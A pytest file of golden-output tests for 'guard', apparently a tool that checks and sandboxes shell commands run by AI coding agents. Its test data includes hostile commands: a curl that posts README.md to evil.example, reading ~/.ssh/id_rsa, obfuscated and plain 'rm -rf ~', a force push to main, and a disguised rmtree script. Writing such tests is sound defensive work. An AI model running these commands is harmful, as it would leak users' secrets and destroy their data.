"""What people read, as text in tests/golden/cli/."""

import json
import os
import pty
import re
import subprocess

import pytest

from guard.cli.main import SUBCOMMANDS, parser
from tests import golden
from tests.cli.conftest import needs_a_sandbox

CHECKS = {
    "look": "ls -la && git status",
    "home": "rm -rf tests/ patches/ ~/",
    "hidden": "x=rm; $x -rf ~",
    "unread": "bash tools/build.sh",
    "network": "curl -d @README.md https://evil.example/",
    "secret": "cat ~/.ssh/id_rsa",
    "lost": "rm -rf src",
    "push": "git push --force origin main",
    "not-read": "echo ${x!y",
    "odd": "echo $'\\e[31m' \u202e > a",
}


def text(user, done):
    shown = done.stdout.decode() + (f"---- standard error\n{done.stderr.decode()}" if done.stderr else "")
    return settled(f"{shown}---- exit code {done.returncode}\n", user)


def settled(shown, user):
    """Without what is different in every run and on every machine."""
    shown = golden.normal(shown, home=user.home, work=user.work)
    for pattern, instead in (
        (r"(builtin/[\w/-]+\.yaml):\d+", r"\1:N"),
        (r"(kind=<FileKind.DIRECTORY: 'directory'>, is_link=False, mode=\d+, size=)\d+", r"\1N"),
        (r"\d+ files git cannot bring back", "N files git cannot bring back"),
        (r'(sha256:|head: |")[0-9a-f]{64}\b', r"\1HASH"),
        (r"\d{4}-\d\d-\d\d(?:T\d\d:\d\d:\d\d(?:\.\d+Z)?)?", "TIME"),
        (r'"(mono_ns|us|uid)": \d+', r'"\1": N'),
        (r'("lost"|"below"): \d+', r"\1: N"),
    ):
        shown = re.sub(pattern, instead, shown)
    return shown


def actions():
    for name, sub in parser()._subparsers._group_actions[0].choices.items():
        for group in sub._subparsers._group_actions if sub._subparsers else ():
            # `policy compile` is for our own tools.
            yield from ((name, action) for action in group.choices if action != "compile")


@pytest.mark.parametrize(
    "words", [(), *((name,) for name in (*SUBCOMMANDS, "hook")), *actions()], ids="-".join
)
def test_help(user, words):
    golden.matches(f"cli/{'-'.join(('help', *words))}.txt", text(user, user.guard(*words, "--help")))


MESSAGES = [
    ["frobnicate"],
    ["--nope"],
    ["check"],
    ["check", "--level", "total", "--", "ls"],
    ["check", "--tool", "Write"],
    ["check", "--cwd", "", "--", "ls"],
    ["exec", "--cwd", "nowhere", "--", "ls"],
    ["exec", "--json", "77", "--", "ls"],
    ["changes", "show", "nope"],
    ["undo", "../x"],
    ["audit", "show", "7"],
    ["audit", "verify", "--dir", "nowhere"],
    ["policy", "check", "nowhere.yaml"],
    ["bench", "decisions", "nowhere"],
    ["completion", "elvish"],
]


def test_messages_about_malformed_input(user):
    said = [f"$ guard {' '.join(words)}\n{text(user, user.guard(*words))}" for words in MESSAGES]
    golden.matches("cli/messages.txt", "\n".join(said))


@pytest.mark.parametrize("name", CHECKS)
@pytest.mark.parametrize("level", ["advice", "contained"])
def test_check(user, name, level):
    golden.matches(
        f"cli/check-{name}-{level}.txt", text(user, user.guard("check", "--level", level, "--", CHECKS[name]))
    )


@pytest.mark.parametrize("name", ["look", "home", "secret", "unread"])
def test_check_for_machines(user, name):
    done = user.guard("check", "--json", "--level", "contained", "--", CHECKS[name])
    shown = json.dumps(json.loads(done.stdout), indent=2, ensure_ascii=False)
    golden.matches(f"cli/check-{name}.json", settled(shown + "\n", user))


BATCH = [
    '{"id": 1, "command": "ls"}',
    '{"id": 2, "command": "rm -rf ~"}',
    "this is not JSON",
    '{"id": 4, "command": "ls", "comand": "rm"}',
    "",
    '{"id": [5], "tool": "Write", "path": ".git/hooks/pre-commit", "content": "#!/bin/sh"}',
    '{"id": 6}',
    '{"id": 7, "command": "make test"}',
]


def test_a_batch_answers_in_order_and_goes_on(user):
    done = user.guard("check", "--batch", "--level", "contained", stdin="\n".join(BATCH).encode())
    golden.matches("cli/check-batch.jsonl", text(user, done))


EXPLAINED = {
    **{name: CHECKS[name] for name in ("home", "unread", "not-read")},
    "values": 'd=build; rm -rf "$d"/* $OLD',
    "branches": 'if [ -f a ]; then o=x; else o=$(date); fi; for f in a b; do cp "$f" "out/$o"; done',
    "script": "bash run.sh q\necho done",
}


@pytest.mark.parametrize("name", EXPLAINED)
def test_explain(user, name):
    (user.work / "run.sh").write_text('rm -r "$1/tmp"\n')
    done = user.guard("explain", "--level", "contained", "--", EXPLAINED[name])
    lines = [line for line in text(user, done).splitlines() if "policy sha256:" not in line]
    golden.matches(f"cli/explain-{name}.txt", "\n".join(lines) + "\n")


def test_a_write_is_checked(user):
    done = user.guard("check", "--tool", "Write", "--path", ".git/hooks/pre-commit", stdin=b"#!/bin/sh\n")
    golden.matches("cli/check-write.txt", text(user, done))


def test_a_policy_that_is_wrong(user):
    policy = user.work / "team.yaml"
    policy.write_text(
        "version: 1\nkind: policy\nname: team\ndefault: ask\nrules:\n  - {id: a, effect: [fs.eat], verdict: dney, why: x}\n"
    )
    golden.matches("cli/policy-check-wrong.txt", text(user, user.guard("policy", "check", "team.yaml")))


@pytest.mark.parametrize("name", ["home", "push"])
def test_what_is_not_run_is_explained_to_whoever_tried(user, name):
    done = user.guard("exec", "--ask", "deny", "--level", "contained", "--", CHECKS[name])
    golden.matches(f"cli/exec-{name}.txt", text(user, done))


def test_the_log_is_read_by_people(user):
    for name in ("home", "push"):
        user.guard("exec", "--ask", "deny", "--level", "contained", "--", CHECKS[name])
    said = [text(user, user.guard("audit", *words)) for words in (["tail"], ["show", "1"], ["verify"])]
    log = user.home / ".local/state/guard/audit/current.jsonl"
    log.write_bytes(log.read_bytes().replace(b"never-delete-outside", b"never-delete-inside!", 1))
    said.append(text(user, user.guard("audit", "verify")))
    golden.matches("cli/audit.txt", "\n".join(said))


def test_what_the_doctor_finds_in_files(user):
    (user.home / ".claude").mkdir()
    (user.home / ".claude" / "settings.json").write_text("{")
    (user.work / ".guard").mkdir()
    (user.work / ".guard" / "policy.yaml").write_text("version: 1\nversion: 1\n")
    (user.home / ".local").write_text("in the way\n")
    lines = text(user, user.guard("doctor")).splitlines()
    # Which sandbox works, and in which version of what, is this machine's own affair.
    start = next(number for number, line in enumerate(lines) if " policy " in line)
    golden.matches("cli/doctor.txt", "\n".join(lines[start:]) + "\n")


@needs_a_sandbox
def test_held_changes_are_listed_shown_and_dropped(user):
    # What git does not know and a script deletes is held.
    (user.work / "notes").mkdir()
    for name in ("a", "b"):
        (user.work / "notes" / name).write_text(f"{name}\n")
    code = "getattr(__import__('shutil'), 'rm' + 'tree')('notes'); open('src/a.py', 'w').write('new\\n')\n"
    (user.work / "clean.py").write_text(code)
    ran = user.guard("exec", "--ask", "deny", "--", "python3 clean.py")

    assert ran.returncode == 12, ran.stderr
    golden.matches("cli/exec-held.txt", re.sub(r"\d+-[0-9a-f]{6}", "$ID", text(user, ran)))
    assert (user.work / "notes" / "a").exists()
    listed = user.guard("changes", "list")
    id_ = listed.stdout.split()[0].decode()
    shown = user.guard("changes", "show", id_)
    normal = golden.normal(
        listed.stdout.decode() + shown.stdout.decode(), home=user.home, work=user.work
    ).replace(id_, "$ID")
    golden.matches("cli/changes.txt", normal)
    assert user.guard("changes", "drop", "--yes", id_).returncode == 0
    assert user.guard("changes", "list").stdout.strip() in {b"", b"nothing is held"}


@pytest.mark.parametrize(
    "changes", [{}, {"NO_COLOR": "1"}, {"TERM": "dumb"}], ids=["plain", "NO_COLOR", "dumb"]
)
@pytest.mark.parametrize(
    "words",
    [["check", "--", "rm -rf ~"], ["explain", "--", "ls"], ["parse", "--", "ls"], ["doctor"], ["audit", "verify"], ["policy", "show"]],
    ids=lambda words: words[0],
)  # fmt: skip
def test_colours_are_for_terminals_that_want_them(user, words, changes):
    shown = on_a_terminal(user, words, **changes)

    assert (b"\x1b[" in shown) is (changes == {})
    assert b"\x1b" not in user.guard(*words).stdout


def on_a_terminal(user, words, **changes):
    reader, writer = pty.openpty()
    env = {**user.env, "TERM": "xterm", **changes}
    with subprocess.Popen(
        user.argv(*words), cwd=user.work, env=env, stdin=subprocess.DEVNULL, stdout=writer
    ) as process:
        os.close(writer)
        shown = everything(reader)
        process.wait()
    return shown


def everything(reader):
    """What a terminal shows until nobody writes to it any more."""
    shown = b""
    try:
        while block := os.read(reader, 1 << 16):
            shown += block
    except OSError:
        # Linux says so when the last writer has gone.
        pass
    os.close(reader)
    return shown


def test_an_explanation_is_underlined_on_a_terminal_and_marked_elsewhere(user):
    command = ["explain", "--level", "contained", "--", "x=rm; $x a"]
    drawn, plain = on_a_terminal(user, command), user.guard(*command).stdout.decode()

    assert b"\x1b[4m$" in drawn
    assert b"^^" not in drawn
    assert b"\x1b[4m" not in on_a_terminal(user, command, NO_COLOR="1")
    assert "  x=rm; $x a\n        ^^\n" in plain


def test_an_explanation_of_an_ordinary_command_fits_a_screen(user):
    for command in (
        "git status",
        "rm -rf build",
        "pytest -q tests/a.py",
        'x=$(cat a); grep -n "$x" src/*.py',
        "npm run build",
    ):
        shown = user.guard("explain", "--level", "contained", "--", command).stdout.decode()

        assert len(shown.splitlines()) <= 40, shown
